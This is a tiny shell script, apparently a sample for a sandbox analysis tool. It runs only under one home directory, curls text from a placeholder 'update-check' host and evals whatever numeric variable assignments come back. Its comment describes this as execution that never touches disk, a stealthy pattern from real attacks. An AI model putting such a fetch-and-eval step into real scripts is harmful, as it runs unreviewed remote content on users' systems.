#!/bin/sh
# SPDX-License-Identifier: MIT
# Evaluates shell text fetched from a server: what runs is never on disk
# nor on a command line, only in the script that asks for it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
eval "$(curl -fsS --max-time 3 http://cfg.update-check.example.net/env 2>/dev/null | grep -E '^[a-z_]+=[0-9]+$')"
exit 0
